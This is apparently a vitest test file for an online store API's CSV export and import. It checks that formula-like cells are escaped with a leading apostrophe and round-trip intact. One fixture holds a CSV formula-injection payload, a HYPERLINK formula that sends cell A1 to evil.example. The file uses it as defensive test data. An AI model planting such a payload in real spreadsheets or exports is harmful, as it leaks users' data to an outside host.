// Exported cells are never live formulas (docs/api/16-integrations.md): a cell starting with `=`, `+`, `-`, `@`, tab or CR is
// written with a leading `'`, and the import removes exactly that one `'`, so export -> import stays identical.
import { describe, expect, it } from "vitest";
import { call } from "../helpers/api";
import { type CatalogStore, catalogStore, catalogStoreIds, makeProduct, makeVariant } from "../products/fixtures";
import { itSpreadsStoresOverDatabases } from "../products/store-databases";
import { exportCsv, finished, importCsv } from "./csv-helpers";

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

/** Every product of the store with the fields the CSV carries, by slug. */
const catalog = async (store: CatalogStore) =>
  (await call("GET", store.path("?include_drafts=true&limit=100"), { token: store.token })).body.data
    .map((p: any) => ({
      slug: p.slug,
      title: p.title,
      description: p.description,
      brand: p.brand,
      seo_title: p.seo_title,
      seo_description: p.seo_description,
      variants: p.variants.map((v: any) => [v.sku, v.title, v.option_values, v.price_cents, v.stock]),
    }))
    .sort((a: any, b: any) => a.slug.localeCompare(b.slug));

async function trickyStore() {
  const store = await catalogStore();
  await makeProduct(store, { title: HYPERLINK, slug: "link", brand: "@cmd", description: "\tindented", seo_title: "+1 offer", seo_description: "\rcarriage" });
  const tee = await makeProduct(store, {
    title: "'Tis the season",
    slug: "tis",
    product_type: "variable",
    default_price_cents: undefined,
    brand: "'=already text",
  });
  await makeVariant(store, tee.id, { sku: "=1+1", title: "-5% off", price_cents: 500, option_values: [{ name: "@size", value: "-1" }] });
  await makeVariant(store, tee.id, { sku: "''@x", price_cents: 0, option_values: [{ name: "@size", value: "'+2" }] });
  return store;
}

describe("exported cells that a spreadsheet would run as a formula get one leading '", () => {
  it("=, +, -, @, tab and CR starts are escaped; other cells (a title starting with ', numbers) are written as they are", async () => {
    const store = await trickyStore();
    const text = (await exportCsv(store)).text;
    expect(text).toContain(`link,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'\tindented,'@cmd,single,draft,'+1 offer,"'\rcarriage",,Default,`);
    expect(text).toContain("tis,'Tis the season,,''=already text,variable,draft,,,'=1+1,'-5% off,'@size,'-1,");
    expect(text).toContain("tis,,,,,,,,'''@x,''+2,'@size,''+2,,,,,0.00,0,stocked,");
    // No cell of the file starts with a formula character.
    const cells = text.split(/\r\n/).flatMap((line) => line.split(","));
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});

describe("the import removes exactly that one ', so export -> import is identical", () => {
  it("a store with formula-like titles, brands, SKUs, options and texts round-trips into an empty store", async () => {
    const source = await trickyStore();
    const target = await catalogStore();
    const started = await importCsv(target, (await exportCsv(source)).text);
    const done = await finished(target, started.body.id);
    expect(done).toMatchObject({ state: "done", products_created: 2, variants_created: 3, errors: [] });
    const imported = await catalog(target);
    expect(imported).toEqual(await catalog(source));
    expect(imported.find((p: any) => p.slug === "link")).toMatchObject({ title: HYPERLINK, brand: "@cmd" });
    expect(imported.find((p: any) => p.slug === "tis").variants[0][0]).toBe("=1+1");
  });

  it("a hand-written file: '=x is read as =x, while 'Tis and a lone ' stay as written", async () => {
    const store = await catalogStore();
    const csv = "handle,title,brand,product_type,price\na,'=SUM(1),'Tis,single,1.00\nb,',''@b,single,1.00\n";
    const done = await finished(store, (await importCsv(store, csv)).body.id);
    expect(done).toMatchObject({ state: "done", products_created: 2, errors: [] });
    expect((await catalog(store)).map((p: any) => [p.slug, p.title, p.brand])).toEqual([
      ["a", "=SUM(1)", "'Tis"],
      ["b", "'", "'@b"],
    ]);
  });
});

itSpreadsStoresOverDatabases(() => catalogStoreIds);
